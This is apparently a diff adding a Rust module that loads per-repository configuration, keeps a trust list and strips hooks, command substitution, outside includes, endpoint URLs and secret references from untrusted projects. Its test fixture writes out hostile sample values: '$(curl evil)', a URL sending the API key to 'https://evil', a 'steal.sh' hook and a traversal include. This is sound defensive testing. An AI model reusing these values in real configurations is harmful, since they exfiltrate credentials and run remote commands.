@@ -0,0 +1,545 @@
+use std::{
+    collections::HashMap,
+    fs,
+    io::{Error, ErrorKind, Result},
+    path::{Component, Path, PathBuf},
+    sync::{Arc, Mutex},
+    time::SystemTime,
+};
+use toml::{Value, map};
+
+use crate::config::get_config_file;
+use crate::hooks::HOOKS_SECTION;
+use crate::interpolate::referenced_keys;
+use crate::merge::merge_into;
+use crate::path;
+use crate::profile::SECRET_REFERENCE_PREFIX;
+use crate::secret::is_secret;
+use crate::state::{modify_state, read_state, state_file};
+
+/// Where a repository keeps its project-local configuration, relative to its root.
+pub const PROJECT_CONFIG_FILE: &str = ".gim/config.toml";
+
+/// The state key holding the roots of the trusted projects.
+pub const TRUSTED_PROJECTS_KEY: &str = "trusted_projects";
+
+/// The top-level key of a project configuration listing further files to include, relative
+/// to the directory of [`PROJECT_CONFIG_FILE`].
+pub const INCLUDE_KEY: &str = "include";
+
+/// The project selected with [`set_project_root`], by the configuration file it applies to;
+/// `None` turns project configuration off.
+static SELECTED: Mutex<Option<HashMap<PathBuf, Option<PathBuf>>>> = Mutex::new(None);
+/// The most recently loaded project layer, reused while none of its files changed.
+static LAYER: Mutex<Option<CachedLayer>> = Mutex::new(None);
+
+/// The modification time and size of a file, `None` if it doesn't exist.
+type Stamp = (PathBuf, Option<(SystemTime, u64)>);
+
+struct CachedLayer {
+    config_file: PathBuf,
+    root: PathBuf,
+    stamps: Vec<Stamp>,
+    value: Arc<Value>,
+}
+
+/// A value the restricted policy took out of an untrusted project configuration.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Restriction {
+    /// The dotted key path
+    pub path: String,
+    /// Why it was taken out, for the user
+    pub reason: String,
+}
+
+/// The project-local configuration of a repository.
+#[derive(Debug, Clone, PartialEq)]
+pub struct ProjectConfig {
+    /// The repository root, canonicalized
+    pub root: PathBuf,
+    /// The project configuration file
+    pub file: PathBuf,
+    /// The files [`INCLUDE_KEY`] merged below it, in order
+    pub included: Vec<PathBuf>,
+    /// Whether the project was trusted with [`trust_project`]
+    pub trusted: bool,
+    /// The configuration with its includes merged in; for an untrusted project without
+    /// what [`Self::restricted`] lists
+    pub value: Value,
+    /// What the restricted policy took out, empty for a trusted project
+    pub restricted: Vec<Restriction>,
+}
+
+/// Returns the nearest directory from `start` upwards that has a [`PROJECT_CONFIG_FILE`].
+pub fn find_project_root(start: &Path) -> Option<PathBuf> {
+    start
+        .ancestors()
+        .find(|dir| dir.join(PROJECT_CONFIG_FILE).is_file())
+        .map(Path::to_path_buf)
+}
+
+/// Selects the repository whose project configuration is layered over the user's.
+///
+/// Without a call the repository is found from the current directory with
+/// [`find_project_root`]. The selection applies to the current configuration file.
+///
+/// # Arguments
+///
+/// * `root` - The repository root, or `None` to read no project configuration at all
+///
+/// # Returns
+///
+/// * `Result<()>` - Success, or an error if the configuration file can't be determined
+pub fn set_project_root(root: Option<&Path>) -> Result<()> {
+    let config_file = get_config_file()?;
+    let mut selected = SELECTED.lock().unwrap_or_else(|e| e.into_inner());
+    selected
+        .get_or_insert_with(HashMap::new)
+        .insert(config_file, root.map(Path::to_path_buf));
+    Ok(())
+}
+
+/// Returns the repository whose project configuration is layered over the user's, if any.
+pub fn project_root() -> Result<Option<PathBuf>> {
+    let config_file = get_config_file()?;
+    let selected = SELECTED
+        .lock()
+        .unwrap_or_else(|e| e.into_inner())
+        .as_ref()
+        .and_then(|selected| selected.get(&config_file).cloned());
+    Ok(match selected {
+        Some(root) => root,
+        None => std::env::current_dir()
+            .ok()
+            .and_then(|dir| find_project_root(&dir)),
+    })
+}
+
+/// Loads the project-local configuration of the repository at `root`.
+///
+/// A cloned repository is untrusted until [`trust_project`] is called for it, like an
+/// editor treats the settings of a workspace it hasn't seen. For an untrusted project the
+/// restricted policy applies: the `[hooks]` section is dropped so no script runs, values
+/// that look like command substitution (`$(...)` or backticks) are dropped, includes that
+/// point outside the repository are dropped, endpoints such as `ai.url` are ignored so the
+/// user's API key isn't sent elsewhere, and secrets, `env:` secret references and `${...}`
+/// references to secret keys are ignored, in arrays of tables as well. Everything dropped is listed in
+/// [`ProjectConfig::restricted`].
+///
+/// Reads of the configuration layer the project configuration of [`project_root`] over
+/// the user's file in the same way, see [`crate::config::get_config_value`].
+///
+/// # Arguments
+///
+/// * `root` - The repository root, e.g. from [`find_project_root`]
+///
+/// # Returns
+///
+/// * `Result<Option<ProjectConfig>>` - The configuration, `None` if the repository has no
+///   [`PROJECT_CONFIG_FILE`], or an error if it or an included file isn't valid TOML or
+///   can't be read
+pub fn load_project_config(root: &Path) -> Result<Option<ProjectConfig>> {
+    let root = fs::canonicalize(root)?;
+    let file = root.join(PROJECT_CONFIG_FILE);
+    let Some(mut project) = parse_optional(&file)? else {
+        return Ok(None);
+    };
+    let trusted = is_project_trusted(&root)?;
+    let dir = file.parent().unwrap_or(&root).to_path_buf();
+    let mut restricted = Vec::new();
+    let mut included = Vec::new();
+    let mut value = Value::Table(map::Map::new());
+    for entry in include_entries(&mut project) {
+        if !trusted && !is_inside(&root, &dir, &entry) {
+            restricted.push(Restriction {
+                path: INCLUDE_KEY.to_string(),
+                reason: format!(
+                    "Untrusted projects can't include '{}', which is outside the repository",
+                    entry
+                ),
+            });
+            continue;
+        }
+        let include = dir.join(&entry);
+        let mut layer = parse_optional(&include)?.ok_or_else(|| {
+            Error::new(
+                ErrorKind::NotFound,
+                format!(
+                    "'{}' includes '{}', which doesn't exist",
+                    file.display(),
+                    include.display()
+                ),
+            )
+        })?;
+        // Includes are one level deep.
+        include_entries(&mut layer);
+        merge_into(&mut value, &layer, true);
+        included.push(include);
+    }
+    merge_into(&mut value, &project, true);
+    if !trusted {
+        restricted.extend(restrict(&mut value));
+    }
+    Ok(Some(ProjectConfig {
+        root,
+        file,
+        included,
+        trusted,
+        value,
+        restricted,
+    }))
+}
+
+/// Trusts the project at `path`, so its configuration loads without restrictions.
+///
+/// The decision is kept in the state file and applies to the canonical path, so it holds
+/// for every checkout at that location until [`untrust_project`] is called.
+///
+/// # Arguments
+///
+/// * `path` - The repository root
+///
+/// # Returns
+///
+/// * `Result<()>` - Success, or an error if the path doesn't exist or the state file
+///   can't be written
+pub fn trust_project(path: &Path) -> Result<()> {
+    let root = root_key(path)?;
+    modify_state(|state| {
+        let mut trusted = trusted_roots(state);
+        if !trusted.contains(&root) {
+            trusted.push(root);
+            trusted.sort();
+            path::insert(
+                state,
+                TRUSTED_PROJECTS_KEY,
+                Value::Array(trusted.into_iter().map(Value::from).collect()),
+            )?;
+        }
+        Ok(())
+    })
+}
+
+/// Withdraws the trust in the project at `path`; returns whether it was trusted.
+pub fn untrust_project(path: &Path) -> Result<bool> {
+    let root = root_key(path)?;
+    modify_state(|state| {
+        let mut trusted = trusted_roots(state);
+        let before = trusted.len();
+        trusted.retain(|trusted| *trusted != root);
+        if trusted.len() == before {
+            return Ok(false);
+        }
+        path::insert(
+            state,
+            TRUSTED_PROJECTS_KEY,
+            Value::Array(trusted.into_iter().map(Value::from).collect()),
+        )?;
+        Ok(true)
+    })
+}
+
+/// Returns whether the project at `path` was trusted with [`trust_project`].
+pub fn is_project_trusted(path: &Path) -> Result<bool> {
+    let root = root_key(path)?;
+    Ok(trusted_roots(&read_state()?).contains(&root))
+}
+
+/// Returns the configuration of [`project_root`], restricted unless it is trusted, or
+/// `None` without a project configuration.
+pub(crate) fn project_layer() -> Result<Option<Arc<Value>>> {
+    let Some(root) = project_root()? else {
+        return Ok(None);
+    };
+    let config_file = get_config_file()?;
+    let mut cache = LAYER.lock().unwrap_or_else(|e| e.into_inner());
+    if let Some(cached) = cache.as_ref()
+        && cached.config_file == config_file
+        && cached.root == root
+        && cached
+            .stamps
+            .iter()
+            .all(|(file, stamp)| stamp_of(file) == *stamp)
+    {
+        return Ok(Some(Arc::clone(&cached.value)));
+    }
+    let mut watched = vec![root.join(PROJECT_CONFIG_FILE), state_file()?];
+    let stamps: Vec<Option<(SystemTime, u64)>> = watched.iter().map(|f| stamp_of(f)).collect();
+    let Some(project) = load_project_config(&root)? else {
+        *cache = None;
+        return Ok(None);
+    };
+    let mut stamps: Vec<Stamp> = watched.drain(..).zip(stamps).collect();
+    stamps.extend(project.included.iter().map(|f| (f.clone(), stamp_of(f))));
+    let value = Arc::new(project.value);
+    *cache = Some(CachedLayer {
+        config_file,
+        root,
+        stamps,
+        value: Arc::clone(&value),
+    });
+    Ok(Some(value))
+}
+
+/// Returns the project configuration's value of `key_path`, if it sets one.
+pub(crate) fn project_override(key_path: &str) -> Option<Result<Value>> {
+    match project_layer() {
+        Ok(layer) => path::lookup(layer?.as_ref(), key_path).cloned().map(Ok),
+        Err(e) => Some(Err(e)),
+    }
+}
+
+/// Merges the project configuration over `config`.
+pub(crate) fn apply_project(config: &mut Value) -> Result<()> {
+    if let Some(layer) = project_layer()? {
+        merge_into(config, &layer, true);
+    }
+    Ok(())
+}
+
+fn stamp_of(file: &Path) -> Option<(SystemTime, u64)> {
+    let metadata = fs::metadata(file).ok()?;
+    Some((metadata.modified().ok()?, metadata.len()))
+}
+
+fn parse_optional(file: &Path) -> Result<Option<Value>> {
+    let text = match fs::read_to_string(file) {
+        Ok(text) => text,
+        Err(e) if e.kind() == ErrorKind::NotFound => return Ok(None),
+        Err(e) => return Err(e),
+    };
+    toml::from_str(&text).map(Some).map_err(|e| {
+        Error::new(
+            ErrorKind::InvalidData,
+            format!("Failed to parse '{}': {}", file.display(), e),
+        )
+    })
+}
+
+/// Removes [`INCLUDE_KEY`] from `config` and returns its entries.
+fn include_entries(config: &mut Value) -> Vec<String> {
+    match path::remove(config, INCLUDE_KEY) {
+        Some(Value::String(entry)) => vec![entry],
+        Some(Value::Array(entries)) => entries
+            .into_iter()
+            .filter_map(|entry| entry.as_str().map(str::to_string))
+            .collect(),
+        _ => Vec::new(),
+    }
+}
+
+fn root_key(path: &Path) -> Result<String> {
+    Ok(fs::canonicalize(path)?.to_string_lossy().into_owned())
+}
+
+fn trusted_roots(state: &Value) -> Vec<String> {
+    path::lookup(state, TRUSTED_PROJECTS_KEY)
+        .and_then(Value::as_array)
+        .map(|roots| {
+            roots
+                .iter()
+                .filter_map(Value::as_str)
+                .map(str::to_string)
+                .collect()
+        })
+        .unwrap_or_default()
+}
+
+/// Applies the restricted policy to the configuration of an untrusted project.
+fn restrict(config: &mut Value) -> Vec<Restriction> {
+    let mut restricted = Vec::new();
+    let Some(root) = config.as_table_mut() else {
+        return restricted;
+    };
+    if root.remove(HOOKS_SECTION).is_some() {
+        restricted.push(Restriction {
+            path: HOOKS_SECTION.to_string(),
+            reason: "Hook scripts don't run for untrusted projects".to_string(),
+        });
+    }
+    restrict_table(root, "", "", &mut restricted);
+    restricted
+}
+
+/// Applies the restricted policy to `table`, whose keys are checked below `key_prefix`
+/// and reported below `shown_prefix`, which also numbers the tables of arrays, e.g.
+/// `ai.endpoints[0]`.
+fn restrict_table(
+    table: &mut map::Map<String, Value>,
+    key_prefix: &str,
+    shown_prefix: &str,
+    restricted: &mut Vec<Restriction>,
+) {
+    let join = |prefix: &str, key: &str| {
+        if prefix.is_empty() {
+            key.to_string()
+        } else {
+            format!("{}.{}", prefix, key)
+        }
+    };
+    let keys: Vec<String> = table.keys().cloned().collect();
+    for key in keys {
+        let key_path = join(key_prefix, &key);
+        let shown = join(shown_prefix, &key);
+        let reason = match table.get(&key) {
+            Some(Value::Table(_)) | None => None,
+            Some(value) => restriction(&key_path, value),
+        };
+        if let Some(reason) = reason {
+            table.remove(&key);
+            restricted.push(Restriction {
+                path: shown,
+                reason: reason.to_string(),
+            });
+            continue;
+        }
+        match table.get_mut(&key) {
+            Some(Value::Table(child)) => restrict_table(child, &key_path, &shown, restricted),
+            Some(Value::Array(items)) => {
+                for (index, item) in items.iter_mut().enumerate() {
+                    if let Value::Table(child) = item {
+                        let shown = format!("{}[{}]", shown, index);
+                        restrict_table(child, &key_path, &shown, restricted);
+                    }
+                }
+            }
+            _ => {}
+        }
+    }
+}
+
+/// Returns why an untrusted project can't set `key_path` to `value`, if it can't.
+fn restriction(key_path: &str, value: &Value) -> Option<&'static str> {
+    if is_secret(key_path) {
+        Some("Untrusted projects can't set secrets")
+    } else if is_endpoint(key_path) {
+        Some("Untrusted projects can't change where requests are sent")
+    } else if strings(value).any(|s| s.starts_with(SECRET_REFERENCE_PREFIX)) {
+        Some("Untrusted projects can't reference secrets")
+    } else if strings(value).any(|s| referenced_keys(s).into_iter().any(is_secret)) {
+        Some("Untrusted projects can't reference secret keys")
+    } else if strings(value).any(|s| s.contains("$(") || s.contains('`')) {
+        Some("Untrusted projects can't use command substitution")
+    } else {
+        None
+    }
+}
+
+/// Returns whether `key_path` names an endpoint, such as `ai.url`, which requests carrying
+/// the user's secrets are sent to.
+fn is_endpoint(key_path: &str) -> bool {
+    let key = key_path.rsplit('.').next().unwrap_or(key_path);
+    let key = key.to_ascii_lowercase();
+    key == "url" || key.ends_with("_url") || key == "endpoint"
+}
+
+/// Returns the strings of `value`, except those in tables, which are checked key by key.
+fn strings(value: &Value) -> Box<dyn Iterator<Item = &str> + '_> {
+    match value {
+        Value::String(s) => Box::new(std::iter::once(s.as_str())),
+        Value::Array(items) => Box::new(items.iter().flat_map(strings)),
+        _ => Box::new(std::iter::empty()),
+    }
+}
+
+/// Returns whether `target`, relative to `dir` unless absolute, stays inside `root`.
+fn is_inside(root: &Path, dir: &Path, target: &str) -> bool {
+    let joined = dir.join(target);
+    if let Ok(resolved) = fs::canonicalize(&joined) {
+        return resolved.starts_with(root);
+    }
+    let mut normalized = PathBuf::new();
+    for component in joined.components() {
+        match component {
+            Component::ParentDir => {
+                if !normalized.pop() {
+                    return false;
+                }
+            }
+            Component::CurDir => {}
+            component => normalized.push(component),
+        }
+    }
+    normalized.starts_with(root)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::{get_config, get_config_value, update_config_value};
+    use crate::testing::TempConfigDir;
+
+    #[test]
+    fn test_untrusted_project_is_restricted_until_trusted() {
+        let dir = TempConfigDir::new().unwrap();
+        update_config_value("ai", "apikey", Value::from("sk-user")).unwrap();
+        let repo = dir.path().join("repo");
+        fs::create_dir_all(repo.join(".gim")).unwrap();
+        fs::write(repo.join(".gim/shared.toml"), "[ai]\nlanguage = 'Dutch'\n").unwrap();
+        fs::write(dir.path().join("outside.toml"), "[ai]\nlanguage = 'Evil'\n").unwrap();
+        fs::write(
+            repo.join(PROJECT_CONFIG_FILE),
+            "include = ['shared.toml', '../../outside.toml']\n\
+             [ai]\nmodel = 'project-model'\nAPIKEY = 'sk-cloned'\nurl = 'https://evil'\n\
+             extra = 'https://evil/?k=${ai.apikey}'\n\
+             [[ai.endpoints]]\nname = 'work'\napikey = 'sk-cloned'\ncmd = '$(curl evil)'\n\
+             [hooks]\non_change = 'steal.sh'\n",
+        )
+        .unwrap();
+        assert_eq!(find_project_root(&repo.join(".gim")), Some(repo.clone()));
+        set_project_root(Some(&repo)).unwrap();
+
+        let project = load_project_config(&repo).unwrap().unwrap();
+        assert!(!project.trusted);
+        let mut dropped: Vec<&str> = project.restricted.iter().map(|r| r.path.as_str()).collect();
+        dropped.sort();
+        assert_eq!(
+            dropped,
+            vec![
+                "ai.APIKEY",
+                "ai.endpoints[0].apikey",
+                "ai.endpoints[0].cmd",
+                "ai.extra",
+                "ai.url",
+                "hooks",
+                "include"
+            ]
+        );
+
+        // Reads layer the restricted project configuration over the user's file.
+        let value = |key: &str| get_config_value("ai", key).unwrap();
+        assert_eq!(value("model").as_str(), Some("project-model"));
+        assert_eq!(value("language").as_str(), Some("Dutch"));
+        assert_eq!(value("apikey").as_str(), Some("sk-user"));
+        assert_eq!(value("url"), get_config().unwrap()["ai"]["url"]);
+        assert_eq!(
+            value("endpoints").as_array().unwrap()[0]
+                .as_table()
+                .unwrap()
+                .keys()
+                .collect::<Vec<_>>(),
+            vec!["name"]
+        );
+        assert!(get_config_value("ai", "extra").is_err());
+        assert!(get_config_value("hooks", "on_change").is_err());
+        // The user's file never receives project values.
+        assert_eq!(
+            get_config().unwrap()["ai"].get("model"),
+            Some(&Value::from(""))
+        );
+
+        trust_project(&repo).unwrap();
+        let project = load_project_config(&repo).unwrap().unwrap();
+        assert!(project.trusted && project.restricted.is_empty());
+        assert_eq!(value("language").as_str(), Some("Evil"));
+        assert_eq!(
+            get_config_value("hooks", "on_change").unwrap().as_str(),
+            Some("steal.sh")
+        );
+        assert!(untrust_project(&repo).unwrap());
+        assert!(!is_project_trusted(&repo).unwrap());
+        assert!(get_config_value("hooks", "on_change").is_err());
+        set_project_root(None).unwrap();
+        assert_eq!(value("model").as_str(), Some(""));
+    }
+}